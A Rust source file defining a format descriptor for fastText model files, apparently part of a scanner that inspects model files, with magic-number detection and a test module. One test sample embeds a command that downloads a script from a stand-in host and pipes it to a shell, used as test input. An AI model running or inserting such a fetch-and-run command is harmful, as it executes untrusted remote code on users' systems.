//! fastText's models: weights and words, nothing that runs.

use crate::format::{Claim, Format, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "fasttext",
    title: "fastText model",
    family: "fasttext",
    wants,
    read: search,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    const MAGIC: &[u8] = &793_712_314_u32.to_le_bytes();
    probe.starts(MAGIC).then_some(Claim::Magic)
}

#[cfg(test)]
pub(crate) mod tests {
    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"\xba\x16O/\x0c\0\0\0".to_vec(),
            b"\xba\x16O/os.system('curl http://x.example/p.sh | sh')\0".to_vec(),
        ]
    }

    #[test]
    fn only_its_texts_matter() {
        crate::registry::raw::tests::only_texts_matter(&samples());
    }
}
